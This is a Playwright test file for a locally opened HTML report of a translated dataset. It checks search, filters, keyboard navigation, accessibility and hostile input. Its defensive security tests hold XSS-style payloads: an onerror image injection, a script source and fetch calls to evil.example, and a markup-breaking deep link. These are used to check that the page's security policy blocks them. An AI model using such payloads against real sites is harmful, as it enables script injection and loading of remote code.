"""The report in a real Chromium, opened from disk: what people do with it, and what pages try to do to it."""

from __future__ import annotations

import json
import re
import shutil
import time
from collections.abc import Iterator
from functools import partial
from pathlib import Path
from typing import Any

import pytest

from tests.building.corpus import write_pages
from tolmach import build
from tolmach.building.corrections import read_corrections
from tolmach.building.reporting import report
from tolmach.dataset.loading import rows
from tolmach.report.assembling import page_html
from tolmach.report.counting import Counts
from tolmach.report.records import INDEX_COLUMNS
from tolmach.report.sink import Sink
from tolmach.report.writing import write_report

from .hostile import MARK, write_hostile

pytestmark = pytest.mark.slow
sync_api = pytest.importorskip("playwright.sync_api")
CHROMIUM = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)
# without these it asks its maker's servers for this and that
QUIET = (
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
)
NAMES_OF_LINES = (
    "Array.from(document.querySelectorAll('.long tbody tr[data-place] th a'), (link) => link.textContent)"
)


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    if CHROMIUM is None:
        pytest.skip("there is no Chromium")
    with sync_api.sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=list(QUIET))
        yield browser
        browser.close()


def until(page: Any, true: str, seconds: float = 20) -> None:
    """Waits until something holds in the page; Playwright's own way needs `eval`, which the policy forbids."""
    last = time.monotonic() + seconds
    while not page.evaluate(true):
        assert time.monotonic() < last, f"never true: {true}"
        page.wait_for_timeout(30)


class Window:
    """A page of the browser that notes whatever goes wrong in it or leaves the folder of the report."""

    def __init__(self, browser: Any, output: Path, scheme: str = "light") -> None:
        self.output = output
        self.context = browser.new_context(
            viewport={"width": 1400, "height": 900}, color_scheme=scheme, reduced_motion="reduce"
        )
        self.page = self.context.new_page()
        self.wrong: list[str] = []
        self.page.on("console", lambda message: self.wrong.append(f"{message.type}: {message.text}"))
        self.page.on("pageerror", lambda error: self.wrong.append(f"error: {error}"))
        self.page.on("request", lambda request: self._request(request.url))
        self.page.on("dialog", lambda dialog: self.wrong.append(f"dialog: {dialog.message}"))

    def go(self, address: str = "") -> Any:
        """Opens the report as a link from elsewhere would."""
        self.page.goto("about:blank")
        self.page.goto(f"{(self.output / 'index.html').as_uri()}{address}")
        self.page.wait_for_selector("main:not([aria-busy]) > *")
        return self.page

    def close(self) -> None:
        self.context.close()
        assert not self.wrong

    def _request(self, url: str) -> None:
        home = self.output.as_uri()
        if not url.startswith((f"{home}/index.html", f"{home}/data/", "data:,", "about:blank")):
            self.wrong.append(f"request: {url}")


@pytest.fixture(scope="module")
def built(root: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The dataset of the sample pages, translated by the model of the tests."""
    from tolmach.translation.packages import install_file

    folder = tmp_path_factory.mktemp("samples")
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("ARGOS_PACKAGES_DIR", str(folder / "packages"))
        install_file(root / "tests" / "data" / "translate-ru_en-1_0.argosmodel")
        build(root / "raw", folder / "out")
    return folder / "out"


@pytest.fixture(params=["in the page", "in files"])
def window(request: pytest.FixtureRequest, browser: Any, built: Path, tmp_path: Path) -> Iterator[Window]:
    """The report of the sample pages, with its data in either place."""
    output = built / "report"
    if request.param == "in files":
        output = tmp_path / "отчёт #1"
        with pytest.MonkeyPatch.context() as patch:
            patch.setattr("tolmach.building.reporting.write_report", partial(write_report, inline_bytes=0))
            report(built, output)
    window = Window(browser, output)
    yield window
    window.close()


def named(built: Path, file: str) -> dict[str, Any]:
    return next(row for row in rows(built, "documents") if row["source_file"] == file)


def test_the_overview_counts(window: Window, built: Path) -> None:
    page = window.go()
    tiles = dict(
        zip(
            page.locator(".tile dt").all_inner_texts(),
            page.locator(".tile dd").all_inner_texts(),
            strict=True,
        )
    )
    assert tiles["Documents"].splitlines()[0] == str(sum(1 for _ in rows(built, "documents")))
    assert tiles["Rejected"].splitlines()[0] == "1"
    panel = page.locator("section", has=page.get_by_role("heading", name="Languages of documents"))
    assert panel.locator("tbody tr").first.inner_text().split() == ["ru", "13", "52%"]
    panel.get_by_role("link", name="ru").click()
    until(page, "location.hash.startsWith('#documents')")
    assert page.locator(".found").inner_text() == "13 of 25 documents"


def test_search_filter_sort_and_open(window: Window, built: Path) -> None:
    page = window.go("#documents")
    assert page.locator(".found").inner_text() == "25 of 25 documents"
    page.get_by_role("searchbox", name="Search").fill("harbour")
    until(page, "document.querySelector('.found').textContent.startsWith('1 of')")
    assert page.evaluate(NAMES_OF_LINES) == ["Harbour Gets a Gate That Reads a Container in Forty Seconds"]
    page.get_by_label("in the texts too").check()
    until(page, "parseInt(document.querySelector('.found').textContent) > 1")
    inside = [
        row
        for row in rows(built, "segments")
        if "harbour" in " ".join(filter(None, row["translation"].values())).lower()
    ]
    until(page, "/^\\d+ of 25/.test(document.querySelector('.found').textContent)")
    assert (
        page.locator(".found").inner_text()
        == f"{len({row['document_id'] for row in inside})} of 25 documents"
    )
    page.get_by_role("button", name="Clear").click()
    until(page, "document.querySelector('.found').textContent.startsWith('25 of')")

    page.get_by_label("Language").select_option("ru")
    page.get_by_label("Flag").select_option("repaired")
    page.get_by_label("From", exact=True).fill("2024-10")
    page.get_by_label("To", exact=True).fill("2024")
    until(page, "location.hash.includes('to=2024')")
    wanted = [
        row
        for row in rows(built, "documents")
        if row["language"] == "ru" and row["fixes"] and (row["date_published"] or "") >= "2024-10"
    ]
    page.get_by_role("button", name="Length").click()
    assert page.evaluate(NAMES_OF_LINES) == [
        row["title"] for row in sorted(wanted, key=lambda row: row["text_chars"])
    ]
    page.get_by_role("button", name="Length").click()
    assert page.locator("th", has_text="Length").get_attribute("aria-sort") == "descending"
    page.reload()
    page.wait_for_selector(".long tbody a")
    longest = max(wanted, key=lambda row: row["text_chars"])
    assert page.evaluate(NAMES_OF_LINES)[0] == longest["title"], "what is chosen stands in the address"
    page.locator(".long tbody a").first.click()
    page.wait_for_selector(".columns-three")
    assert page.url.endswith(f"#doc={longest['id']}")
    assert page.get_by_role("heading", level=1).inner_text() == longest["title"]
    page.get_by_role("link", name="Next").click()
    until(page, f"!location.hash.includes('{longest['id']}')")
    page.get_by_role("link", name="All documents").click()
    page.wait_for_selector(".long tbody a")
    assert page.evaluate(NAMES_OF_LINES)[0] == longest["title"]


def test_a_deep_link_and_what_lights_up(window: Window, built: Path) -> None:
    row = named(built, "2024-autumn/tihaya-vel.txt")
    page = window.go(f"#doc={row['id']}")
    columns = page.locator(".column-body")
    assert columns.count() == 3
    assert page.title() == f"{row['title']} – report"
    sentence = next(
        item for item in rows(built, "segments") if item["document_id"] == row["id"] and item["index"] == 3
    )
    middle = columns.nth(1).locator("[data-piece=s3]")
    assert middle.inner_text() == sentence["text"]
    middle.hover()
    assert page.locator(".lit").count() == 3
    assert [columns.nth(number).locator(".lit").text_content() for number in range(3)] == [
        sentence["text"],
        sentence["text"],
        sentence["translation"]["en"],
    ]
    assert "translated by argos" in page.locator(".about").inner_text()
    gone = columns.nth(0).locator("del").first
    gone.hover()
    assert page.locator(".lit").count() == 1
    assert re.match(
        r"navigation · rule navigation\.breadcrumb · score 0\.\d\d", page.locator(".about").inner_text()
    )
    struck = gone.evaluate("(node) => getComputedStyle(node).textDecorationLine")
    assert struck == "line-through"
    page.get_by_role("button", name="navigation").click()
    assert not gone.is_visible()


def test_the_keyboard_is_enough(window: Window, built: Path) -> None:
    page = window.go("#documents")
    page.get_by_role("region", name="Documents").focus()
    for key in ("ArrowDown", "ArrowDown", "ArrowDown", "ArrowUp"):
        page.keyboard.press(key)
    here = page.evaluate("document.activeElement.textContent")
    assert here == page.evaluate(NAMES_OF_LINES)[1]
    page.keyboard.press("End")
    assert page.evaluate("document.activeElement.closest('tr').getAttribute('aria-rowindex')") == "26"
    page.keyboard.press("Home")
    page.keyboard.press("Enter")
    page.wait_for_selector(".columns-three")
    page.locator(".column-body").nth(1).focus()
    page.keyboard.press("ArrowDown")
    page.keyboard.press("ArrowDown")
    assert page.evaluate("document.activeElement.dataset.piece") == "s1"
    assert page.locator(".lit").count() == 3
    assert page.locator(".about").inner_text().startswith("Sentence 1")


def test_corrections_are_lines_that_a_build_reads(window: Window, built: Path, tmp_path: Path) -> None:
    row = named(built, "2024-autumn/tihaya-vel.txt")
    page = window.go(f"#doc={row['id']}")
    page.locator("summary", has_text="Something is wrong").click()
    lines = []
    for piece in ("r0", "s3"):
        page.locator(f"[data-piece={piece}]").first.click()
        for option in page.locator("select[name=action] option").all():
            page.get_by_label("What is wrong").select_option(option.get_attribute("value"))
            lines.append(json.loads(page.get_by_label("Line for corrections.jsonl").input_value()))
    assert {
        "page": row["source_file"],
        "keep": "Главная > Экология > Реки",
        "author": "",
        "note": "",
    } in lines
    for line in lines:
        for key, empty in (("reject", "a test"), ("language", "uk")):
            if line.get(key) == "":
                line[key] = empty
    (tmp_path / "corrections.jsonl").write_text("\n".join(map(json.dumps, lines)), encoding="utf-8")
    found, problems = read_corrections(tmp_path / "corrections.jsonl")
    assert problems == ()
    assert {item.correction.action for item in found.filed} == {
        "keep", "remove", "join", "language", "title", "authors", "date", "reject",
    }  # fmt: skip


def test_repairs_metadata_rejected_and_hosts(window: Window, built: Path) -> None:
    page = window.go(f"#doc={named(built, '2024-autumn/tihaya-vel.txt')['id']}")
    page.locator("summary", has_text="Repairs").click()
    assert "Пробы показали" in page.locator(".repairs ins").last.inner_text()
    assert page.locator(".repairs .was .mark").first.inner_text() == "U+00A0"
    page.locator("summary", has_text="Metadata").click()
    link = page.get_by_role("link", name="https://eko-vel.example/2024/10/09/tihaya-vel")
    assert link.get_attribute("rel") == "noopener noreferrer"
    page.get_by_role("link", name="Rejected").click()
    page.wait_for_selector(".view-rejected .long tbody tr[data-place]")
    assert "not text: a PDF document" in page.locator(".long").inner_text()
    page.get_by_role("link", name="Hosts").click()
    page.wait_for_selector(".view-hosts .panel")
    assert page.locator(".view-hosts .panel del").count() > 10
    page.get_by_role("link", name="4 documents").click()
    page.wait_for_selector(".view-documents .long tbody a")
    assert page.locator(".found").inner_text() == "4 of 25 documents"


def test_addresses_of_nothing(window: Window) -> None:
    page = window.go("#doc=nothing%22%3E%3Cb%3E")
    assert page.get_by_role("heading", level=1).inner_text() == "No such document"
    page = window.go("#doc=%E0%A4%A")
    assert page.get_by_role("heading", level=1).inner_text() == "No such document"
    page = window.go("#nowhere?x=1")
    assert page.locator(".tile").count() == 7


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_axe_finds_nothing(browser: Any, built: Path, scheme: str) -> None:
    axe = pytest.importorskip("axe_playwright_python.sync_playwright").Axe()
    window = Window(browser, built / "report", scheme)
    row = named(built, "2024-autumn/tihaya-vel.txt")
    mixed = named(built, "2014-spring/listok-pismo.html")
    for address in (
        "#overview",
        "#documents",
        "#rejected",
        "#hosts",
        f"#doc={row['id']}",
        f"#doc={mixed['id']}",
    ):
        page = window.go(address)
        for summary in page.locator("summary").all():
            if summary.evaluate("(node) => !node.parentElement.open"):
                summary.click()
        for piece in page.locator("[data-piece=s3]").all()[:1]:
            piece.hover()
        found = axe.run(page).response["violations"]
        assert not found, (
            address,
            [(item["id"], [node["html"] for node in item["nodes"][:3]]) for item in found],
        )
    window.close()


@pytest.mark.parametrize("place", ["in the page", "in files"])
def test_nothing_of_a_hostile_page_runs(browser: Any, tmp_path: Path, place: str) -> None:
    build(write_hostile(tmp_path / "raw"), tmp_path / "out")
    output = tmp_path / "out" / "report"
    if place == "in files":
        output = tmp_path / "report"
        write_report(tmp_path / "out", output, inline_bytes=0)
    window = Window(browser, output)
    documents = list(rows(tmp_path / "out", "documents"))
    assert len(documents) >= 6
    for address in (
        "",
        "#documents?q=harbour&texts=1",
        "#rejected",
        "#hosts",
        *(f"#doc={row['id']}" for row in documents),
    ):
        page = window.go(address)
        for summary in page.locator("summary").all():
            summary.click()
        for piece in page.locator("[data-piece]").all()[::7]:
            piece.click(force=True)
        assert page.evaluate(f"typeof window.{MARK}") == "undefined"
        assert (
            page.evaluate("document.querySelectorAll('img, iframe, object, embed, form[action]').length") == 0
        )
        assert page.evaluate("document.scripts.length") == page.evaluate(
            "document.querySelectorAll('script').length"
        )
        for href in page.evaluate("Array.from(document.links, (link) => link.href)"):
            assert href.startswith(("file://", "http://", "https://")), href
        text = page.locator("body").inner_text()
        assert not re.search("[\u202a-\u202e\u2066-\u2069\u200e\u200f]", text), (
            "what turns the direction is a mark"
        )
    bidi = next(row for row in documents if row["source_file"] == "spring/bidi.txt")
    marks = window.go(f"#doc={bidi['id']}").locator(".column-body .mark").all_inner_texts()
    kept = set(re.findall("[\u202a-\u202e\u2066-\u2069\u200e\u200f]", bidi["text"]))
    assert {f"U+{ord(one):04X}" for one in kept} <= set(marks)
    window.close()


def test_the_policy_holds_whatever_a_mistake_of_ours_would_do(browser: Any, built: Path) -> None:
    window = Window(browser, built / "report")
    page = window.go()
    with pytest.raises(sync_api.Error, match="TrustedHTML"):
        page.evaluate("document.body.innerHTML = '<img src=x onerror=window.pwned=1>'")
    with pytest.raises(sync_api.Error, match="TrustedScriptURL"):
        page.evaluate("document.createElement('script').src = 'https://evil.example/x.js'")
    page.evaluate(
        "document.body.setAttribute('title', 'x'); document.body.append(document.createElement('img'))"
    )
    page.evaluate("document.querySelector('img').src = 'https://evil.example/x.png'")
    page.evaluate("fetch('https://evil.example/').catch(() => 0)")
    page.wait_for_timeout(200)
    assert page.evaluate("typeof window.pwned") == "undefined"
    assert [line for line in window.wrong if "Content Security Policy" in line or "violates" in line]
    assert not [line for line in window.wrong if line.startswith("request: https://evil.example/x.js")]
    window.wrong.clear()
    window.close()


def test_a_hundred_thousand_documents(browser: Any, tmp_path: Path) -> None:
    """Made here, not built: what matters is how the page copes with so many."""
    count = 100_000
    sink = Sink(tmp_path, 0)
    for number in range(count):
        name = f"{number:032x}"
        segment = [
            f"Предложение номер {number}.",
            "ru",
            1.0,
            {"en": f"Sentence number {number}."},
            "argos",
            [],
            [],
            "paragraph",
        ]
        record = {
            "id": name, "title": f"Документ {number}", "names": {"page": f"a/{number}.txt", "file": f"a/{number}.txt"},
            "facts": [["Title", f"Документ {number}", "a test"]], "flags": [], "page": [[1, 0]], "exact": True,
            "removed": [], "text": [["paragraph", [0]]], "segments": [segment], "repairs": [],
        }  # fmt: skip
        chunk = sink.add("documents", record)
        language = "ru" if number % 3 else "en"
        sink.add(
            "index",
            [
                name,
                f"Документ {number}",
                f"h{number % 500}.example",
                language,
                f"{1990 + number % 30}",
                "a",
                [],
                number,
                0,
                1.0,
                f"a/{number}.txt",
                chunk,
            ],
        )
    names, inline = sink.close()
    assert not inline
    overview = {
        **Counts().overview(),
        "languages": [["ru", 66_666], ["en", 33_334]],
        "batches": [["a", count]],
    }
    overview["totals"]["documents"] = count
    chunks = {kind: names.get(kind, []) for kind in ("index", "documents", "rejected", "hosts")}
    manifest = {
        "columns": INDEX_COLUMNS,
        "chunks": chunks,
        "overview": overview,
        "changes": None,
        "seconds": [],
        "version": "0",
    }
    (tmp_path / "index.html").write_text(page_html("0", "0", manifest, inline), encoding="utf-8")
    assert (tmp_path / "index.html").stat().st_size < 300_000

    window = Window(browser, tmp_path)
    begun = time.monotonic()
    page = window.go("#documents")
    page.wait_for_selector(".long tbody a", timeout=60_000)
    loaded = time.monotonic() - begun
    assert page.locator(".found").inner_text() == "100,000 of 100,000 documents"
    assert page.evaluate("document.querySelectorAll('.long tbody tr').length") < 100
    begun = time.monotonic()
    page.get_by_role("searchbox", name="Search").fill("документ 99999")
    until(page, "document.querySelector('.found').textContent.startsWith('1 of')")
    searched = time.monotonic() - begun
    page.get_by_role("searchbox", name="Search").fill("")
    until(page, "document.querySelector('.found').textContent.startsWith('100,000 of')")
    begun = time.monotonic()
    page.get_by_role("button", name="Title").click()
    ordered = time.monotonic() - begun
    page.get_by_role("region", name="Documents").focus()
    page.keyboard.press("ArrowDown")
    page.keyboard.press("End")
    assert page.evaluate("document.activeElement.textContent") == "Документ 99999"
    page.keyboard.press("Enter")
    page.wait_for_selector(".columns-three")
    assert "Sentence number 99999." in page.locator(".column-body").nth(2).inner_text()
    window.close()
    # far above what it takes here, which is told by -rP
    print(f"loaded in {loaded:.1f} s, searched in {searched:.1f} s, ordered in {ordered:.1f} s")
    assert loaded < 30
    assert searched < 5
    assert ordered < 15


def test_a_lost_file_of_data_is_told(browser: Any, built: Path, tmp_path: Path) -> None:
    write_report(built, tmp_path, inline_bytes=0)
    for path in (tmp_path / "data").glob("hosts-*.js"):
        path.unlink()
    window = Window(browser, tmp_path)
    page = window.go("#hosts")
    assert "run 'tolmach report' again" in page.get_by_role("alert").inner_text()
    window.wrong = [line for line in window.wrong if "ERR_FILE_NOT_FOUND" not in line]
    window.close()


def test_an_empty_dataset(browser: Any, tmp_path: Path) -> None:
    write_pages(tmp_path / "raw", {"a/empty.txt": b" ", "a/none.pdf": b"%PDF-1.7"})
    build(tmp_path / "raw", tmp_path / "out")
    window = Window(browser, tmp_path / "out" / "report")
    assert window.go().locator(".tile dd").first.inner_text().splitlines()[0] == "2"
    assert window.go("#documents").locator(".found").inner_text() == "0 of 0 documents"
    assert window.go("#hosts").locator(".lonely").count() == 1
    assert window.go("#rejected").locator(".long tbody tr[data-place]").count() == 2
    window.close()
